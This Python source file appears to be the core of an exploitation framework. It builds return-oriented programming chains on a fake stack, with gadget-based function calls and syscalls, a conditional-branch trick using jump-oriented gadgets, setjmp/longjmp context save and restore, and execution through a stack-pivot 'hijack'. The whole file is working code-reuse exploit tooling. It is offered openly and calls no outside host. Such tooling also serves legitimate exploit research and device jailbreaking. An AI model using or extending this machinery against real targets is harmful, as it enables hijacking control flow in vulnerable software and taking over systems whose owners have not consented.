import logging
from enum import Enum

from Errors import (AlreadySaved, ArgumentOverflow, ChainOverflow, EmptyChain,
                    InvalidBranchState, InvalidWidth, NotEmpty, NotSaved,
                    StaleChain)
from Gadget import ARG_GADGETS, Gadget
from Int64 import Int, to_u64

logger = logging.getLogger(__name__)

BSIZE = 8
JMP_TARGET_SIZE = 0x100
# offset read by 'pop rdi; jmp qword ptr [rax + 0x1d]'
JMP_TARGET_JOP = 0x1d

class ChainState(Enum):
    EMPTY = 0
    BUILDING = 1
    READY = 2
    EXECUTING = 3
    STALE = 4

class RopChain(object):
    def __init__(self, ctx, pivot):
        self.ctx = ctx
        self.mem = ctx.memory
        self.gadgets = ctx.gadgets
        self.syscalls = ctx.syscalls
        self.profile = ctx.profile

        self.stack_size = self.profile.stack_size
        self.stack_addr = self.mem.alloc(self.stack_size)
        self.retval_addr = self.mem.alloc(BSIZE)

        # for conditional jumps
        self.flag_addr = self.mem.alloc(BSIZE)
        self.jmp_target = self.mem.alloc(JMP_TARGET_SIZE)
        if Gadget.POP_RSP in self.gadgets and Gadget.JOP4 in self.gadgets:
            self.jmp_target.write64(JMP_TARGET_JOP, self.gadgets[Gadget.JOP4])
            self.jmp_target.write64(0, self.gadgets[Gadget.POP_RSP])

        # for save/restore
        self.context_addr = self.mem.alloc(self.profile.context_size)

        self.position = 0
        self.comments = dict()
        self.is_stale = False
        self.is_executing = False
        self.is_saved = False
        self._clean_branch_ctx()

        self.pivot = pivot
        pivot.attach(self.stack_addr)

    @property
    def state(self):
        if self.is_executing:
            return ChainState.EXECUTING
        if self.is_stale:
            return ChainState.STALE
        if self.position == 0:
            return ChainState.EMPTY
        if self.is_branch_ctx:
            return ChainState.BUILDING
        return ChainState.READY

    @property
    def return_value(self):
        return self.retval_addr.read64()

    def _clean_branch_ctx(self):
        self.is_branch_ctx = False
        self.branch_position = None
        self.delta_slot = None
        self.rsp_slot = None

    def check_stale(self):
        if self.is_stale:
            raise StaleChain("chain already ran, clean() it first")

    def check_is_empty(self):
        if self.position == 0:
            raise EmptyChain("chain is empty")

    def check_is_branching(self):
        if self.is_branch_ctx:
            raise InvalidBranchState("chain is still branching, end it before running")

    def _g(self, gadget):
        return (int(self.gadgets[gadget]), gadget.value)

    def _v(self, value, comment=""):
        if isinstance(value, Gadget):
            return self._g(value)
        return (to_u64(value), comment)

    def _emit(self, items):
        # every item is already resolved, so nothing below can fail halfway
        self.check_stale()
        if self.position + len(items)*BSIZE > self.stack_size:
            raise ChainOverflow("fake stack full: {} + {} slots > 0x{:x} bytes".format(
                self.position // BSIZE, len(items), self.stack_size))
        start = self.position
        payload = b"".join(value.to_bytes(BSIZE, 'little') for value, _ in items)
        self.mem.write(int(self.stack_addr) + start, payload)
        for i, (_, comment) in enumerate(items):
            if comment:
                self.comments[start + i*BSIZE] = comment
        self.position += len(items)*BSIZE
        return start

    def _patch(self, slot, value):
        assert slot < self.position, "patch past the cursor"
        self.stack_addr.write64(slot, value)

    def push_gadget(self, gadget):
        self._emit([self._g(gadget)])

    def push_constant(self, value):
        self._emit([self._v(value)])

    def push_value(self, value):
        self._emit([self._v(Int(value))])

    def _call_items(self, target, args):
        if len(args) > len(ARG_GADGETS):
            raise ArgumentOverflow("at most {} arguments, got {}".format(
                len(ARG_GADGETS), len(args)))
        items = []
        for gadget, arg in zip(ARG_GADGETS, args):
            items.append(self._g(gadget))
            items.append(self._v(arg))
        items.append(self._v(target, "call"))
        return items

    def push_call(self, target, *args):
        self._emit(self._call_items(target, args))

    def push_syscall(self, name, *args):
        sysno = self.syscalls[name]
        items = self._call_items(Gadget.SYSCALL, args)
        items[-1:-1] = [self._g(Gadget.POP_RAX), (sysno, "syscall {}".format(name))]
        self._emit(items)

    def push_get_retval(self):
        self.push_store_retval(self.retval_addr)

    def push_store_retval(self, addr, width=8):
        if width not in (4, 8):
            raise InvalidWidth("can only store eax or rax, not {} bytes".format(width))
        store = Gadget.STORE_RAX if width == 8 else Gadget.STORE_EAX
        self._emit([
            self._g(Gadget.POP_RDI),
            self._v(addr),
            self._g(store),
        ])

    # sequence to pivot back and return
    def push_end(self):
        self._emit([self._g(gadget) for gadget in self.pivot.epilogue])

    # Delimit a conditionally executed region. rax == 0 at start_branch()
    # means the region runs, anything else skips past end_branch().
    # Clobbers rax, rcx, rdx, rsi, rdi.
    def start_branch(self):
        if self.is_branch_ctx:
            raise InvalidBranchState("chain already branching, end it first")
        self.gadgets.require(Gadget.POP_RSP, Gadget.JOP4)

        flag = int(self.flag_addr)
        items = [
            # *flag = rax != 0
            self._g(Gadget.POP_RCX),
            self._v(-1),
            self._g(Gadget.NEG_RAX),
            self._g(Gadget.POP_RSI),
            self._v(0),
            self._g(Gadget.ADC_ESI),
            self._g(Gadget.POP_RDI),
            self._v(flag, "flag"),
            self._g(Gadget.STORE_RSI),
            # *flag = -*flag & delta
            self._g(Gadget.POP_RAX),
            self._v(flag, "flag"),
            self._g(Gadget.LOAD_RAX),
            self._g(Gadget.POP_RCX),
        ]
        delta_idx = len(items)
        items += [
            self._v(0, "delta"),
            self._g(Gadget.NEG_RAX_AND_RCX),
            self._g(Gadget.POP_RDI),
            self._v(flag, "flag"),
            self._g(Gadget.STORE_RAX),
            # rdx = rsp at the add gadget + distance to the region
            self._g(Gadget.POP_RCX),
        ]
        rsp_idx = len(items)
        items += [
            None,
            self._g(Gadget.POP_RSI),
            None,
        ]
        collect_idx = len(items)
        items += [
            self._g(Gadget.ADD_RCX_RSI),
            self._g(Gadget.MOV_RDX_RCX),
            # new rsp = rdx + *flag
            self._g(Gadget.POP_RAX),
            self._v(flag, "flag"),
            self._g(Gadget.LOAD_RAX),
            self._g(Gadget.ADD_RAX_RDX),
            # keep new rsp in flag for debugging
            self._g(Gadget.POP_RDI),
            self._v(flag, "flag"),
            self._g(Gadget.STORE_RAX),
            self._g(Gadget.POP_RCX),
            self._v(0),
            self._g(Gadget.MOV_RDX_RAX),
            # rsp = rdx
            self._g(Gadget.POP_RAX),
            self._v(self.jmp_target, "jmp target"),
            self._g(Gadget.POP_RDI_JMP),
            # padding, overwritten by the push
            self._v(0, "pivot slot"),
        ]
        base = self.position
        collect_pos = base + collect_idx*BSIZE
        rsp_position = (len(items) - collect_idx)*BSIZE
        items[rsp_idx] = self._v(rsp_position, "rsp position")
        items[rsp_idx+2] = self._v(int(self.stack_addr) + collect_pos, "rsp")

        self._emit(items)
        self.is_branch_ctx = True
        self.delta_slot = base + delta_idx*BSIZE
        self.rsp_slot = base + rsp_idx*BSIZE
        self.branch_position = self.position
        logger.debug("branch at 0x%x, region starts at 0x%x", base, self.position)

    def end_branch(self):
        if not self.is_branch_ctx:
            raise InvalidBranchState("can not end nonbranching chain")
        delta = self.position - self.branch_position
        self._patch(self.delta_slot, delta)
        logger.debug("branch region 0x%x-0x%x, delta 0x%x", self.branch_position,
                     self.position, delta)
        self._clean_branch_ctx()

    # clobbers rax, rdi, rsi
    def push_save(self):
        if self.is_saved:
            raise AlreadySaved("restore first before saving again")
        self.push_call(Gadget.SETJMP, self.context_addr)
        self.is_saved = True

    # Force a restore if at runtime you can ensure a save happened on the
    # path that reaches it.
    def push_restore(self, force=False):
        if not self.is_saved and not force:
            raise NotSaved("save first before restoring")
        ctx = self.context_addr
        items = [
            self._g(Gadget.POP_RAX),
            None,
            self._g(Gadget.POP_RDI),
            self._v(ctx.add(self.profile.context_sp_offset), "context.rsp"),
            self._g(Gadget.STORE_RAX),
            self._g(Gadget.POP_RAX),
            self._g(Gadget.RET),
            self._g(Gadget.POP_RDI),
            self._v(ctx.add(self.profile.context_pc_offset), "context.pc"),
            self._g(Gadget.STORE_RAX),
        ]
        items += self._call_items(Gadget.LONGJMP, (ctx,))
        items += [self._v(0, "padding")]*self.profile.resume_padding
        target_rsp = int(self.stack_addr) + self.position + len(items)*BSIZE
        items[1] = self._v(target_rsp, "resume rsp")
        self._emit(items)
        self.is_saved = False

    def call(self, target, *args):
        if self.position != 0:
            raise NotEmpty("call() needs an empty chain")
        self.push_call(target, *args)
        self.push_get_retval()
        self.push_end()
        self.run()
        self.clean()

    def syscall(self, name, *args):
        if self.position != 0:
            raise NotEmpty("syscall() needs an empty chain")
        self.push_syscall(name, *args)
        self.push_get_retval()
        self.push_end()
        self.run()
        self.clean()

    def run(self):
        self.check_stale()
        self.check_is_empty()
        self.check_is_branching()
        logger.debug("running chain: 0x%x bytes at %s", self.position, self.stack_addr)
        self.is_stale = True
        self.is_executing = True
        try:
            self.pivot.hijack()
        finally:
            self.is_executing = False

    def clean(self):
        self.position = 0
        self.comments = dict()
        self.is_stale = False
        self.is_saved = False
        self._clean_branch_ctx()

    def payload_str(self):
        return self.stack_addr.read_bytes(self.position)

    def dump(self):
        payload = self.payload_str()
        dump_str = ""
        for sp in range(0, self.position, BSIZE):
            value = int.from_bytes(payload[sp:sp+BSIZE], 'little')
            com = ""
            if sp in self.comments:
                com = " # {}".format(self.comments[sp])
            dump_str += "$RSP+0x{:04x} : 0x{:016x}{}\n".format(sp, value, com)
        print(dump_str, end="")
